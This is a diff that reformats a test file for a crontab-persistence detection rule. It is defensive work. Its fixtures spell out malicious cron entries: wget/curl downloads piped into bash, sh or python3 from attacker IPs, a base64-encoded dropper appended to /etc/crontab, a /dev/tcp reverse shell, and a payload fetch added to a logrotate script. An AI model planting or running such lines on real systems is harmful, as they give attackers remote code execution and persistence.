@@ -22,22 +22,49 @@ testRule(rule, {
   invalid: [
     {
       name: 'root crontab pipes a downloaded script into bash (mining incident, seed 002)',
-      facts: cron((r) => debianCron(r).write('/var/spool/cron/crontabs/root', '*/10 * * * * wget -qO- http://45.9.148.99/m.sh | bash > /dev/null 2>&1\n', { mtime: RECENT })),
-      expect: [{ severity: 'critical', path: '/var/spool/cron/crontabs/root', user: 'root', title: /downloads a script.*crontabs\/root:1/, evidence: /m\.sh \| bash/ }],
+      facts: cron((r) =>
+        debianCron(r).write('/var/spool/cron/crontabs/root', '*/10 * * * * wget -qO- http://45.9.148.99/m.sh | bash > /dev/null 2>&1\n', {
+          mtime: RECENT,
+        }),
+      ),
+      expect: [
+        {
+          severity: 'critical',
+          path: '/var/spool/cron/crontabs/root',
+          user: 'root',
+          title: /downloads a script.*crontabs\/root:1/,
+          evidence: /m\.sh \| bash/,
+        },
+      ],
     },
     {
       name: 'package-owned /etc/crontab with an appended base64 dropper still fires',
       facts: cron((r) => {
         debianCron(r);
-        r.write('/etc/crontab', `${'17 * * * * root cd / && run-parts --report /etc/cron.hourly\n'}*/3 * * * * root echo Y3VybCBodHRwOi8vZXZpbC9zaCB8IHNo | base64 -d | sh\n`, { mtime: RECENT });
+        r.write(
+          '/etc/crontab',
+          `${'17 * * * * root cd / && run-parts --report /etc/cron.hourly\n'}*/3 * * * * root echo Y3VybCBodHRwOi8vZXZpbC9zaCB8IHNo | base64 -d | sh\n`,
+          { mtime: RECENT },
+        );
       }),
-      expect: [{ severity: 'critical', path: '/etc/crontab', user: 'root', evidence: /\/etc\/crontab:2: .*base64 -d \| sh[\s\S]*edited since installation/ }],
+      expect: [
+        {
+          severity: 'critical',
+          path: '/etc/crontab',
+          user: 'root',
+          evidence: /\/etc\/crontab:2: .*base64 -d \| sh[\s\S]*edited since installation/,
+        },
+      ],
     },
     {
       // The Kinsing/TeamTNT droppers write the shell as a full path, and wrap curl in sudo -E or env.
       name: 'downloads piped into /bin/bash, /usr/bin/python3 and sudo -E bash by full path',
       facts: cron((r) =>
-        r.write('/var/spool/cron/root', '*/5 * * * * (curl -s http://194.38.20.199/d.sh||wget -q -O- http://194.38.20.199/d.sh)|/bin/bash\n*/7 * * * * wget -q -O - http://209.141.40.190/x.py | /usr/bin/python3\n*/9 * * * * curl -s http://194.38.20.199/s.sh | sudo -E /bin/sh\n', { mtime: RECENT }),
+        r.write(
+          '/var/spool/cron/root',
+          '*/5 * * * * (curl -s http://194.38.20.199/d.sh||wget -q -O- http://194.38.20.199/d.sh)|/bin/bash\n*/7 * * * * wget -q -O - http://209.141.40.190/x.py | /usr/bin/python3\n*/9 * * * * curl -s http://194.38.20.199/s.sh | sudo -E /bin/sh\n',
+          { mtime: RECENT },
+        ),
       ),
       expect: [
         { severity: 'critical', path: '/var/spool/cron/root', user: 'root', evidence: /root:1: .*\|\/bin\/bash/ },
@@ -47,14 +74,20 @@ testRule(rule, {
     },
     {
       name: 'reverse shell in a RHEL spool crontab of www-data',
-      facts: cron((r) => r.write('/var/spool/cron/www-data', '* * * * * /bin/bash -c "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1"\n', { mtime: RECENT })),
+      facts: cron((r) =>
+        r.write('/var/spool/cron/www-data', '* * * * * /bin/bash -c "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1"\n', { mtime: RECENT }),
+      ),
       expect: [{ severity: 'critical', path: '/var/spool/cron/www-data', user: 'www-data', evidence: /dev\/tcp/ }],
     },
     {
       name: 'cron.hourly script of an owned package, edited to fetch a payload',
       facts: cron((r) => {
         installPackage(r, 'logrotate', { '/etc/cron.hourly/logrotate': '#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n' });
-        r.write('/etc/cron.hourly/logrotate', '#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\ncurl -fsSL http://pastebin.example/raw/xyz | sh\n', { mtime: RECENT });
+        r.write(
+          '/etc/cron.hourly/logrotate',
+          '#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\ncurl -fsSL http://pastebin.example/raw/xyz | sh\n',
+          { mtime: RECENT },
+        );
       }),
       expect: [{ severity: 'critical', path: '/etc/cron.hourly/logrotate', user: 'root', evidence: /logrotate:3: curl/ }],
     },
